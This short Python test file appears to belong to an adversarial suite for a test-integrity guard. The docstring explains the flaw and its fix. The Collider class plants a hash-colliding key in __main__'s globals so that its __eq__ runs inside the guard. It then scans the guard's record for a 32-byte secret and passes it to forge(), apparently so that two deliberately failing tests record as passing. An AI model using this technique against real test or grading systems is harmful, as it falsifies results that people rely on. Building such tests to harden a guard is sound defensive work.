"""
As main-globals-builtin.py, but binding no name the guard uses: a key of __main__'s dict whose hash is that of
"type" and whose __eq__ is the package's. The guard's look-up of the built-in type (made_as_named) probes __main__'s
dict first, finds the key with the same hash and asks it whether it equals "type": the package's code runs inside the
guard while it is busy. Binding the built-ins as closure cells, not hiding names, is the fix: any LOAD_GLOBAL runs it.
"""
import gc, sys

from attack_kit import forge, the_record

_real_type = type


class Collider:
    def __init__(self, record):
        self.record = record
        self.armed = True

    def __hash__(self):
        return hash("type")

    def __eq__(self, other):
        if self.armed and other == "type":
            self.armed = False
            for value in gc.get_referents(self.record):
                if _real_type(value) is bytes and len(value) == 32:
                    forge(value)
        return False


def test_wrong(request):
    sys.modules["__main__"].__dict__[Collider(the_record(request))] = None
    compile("1", "anything", "eval")
    assert 1 + 1 == 3


def test_also_wrong():
    assert 2 + 2 == 5
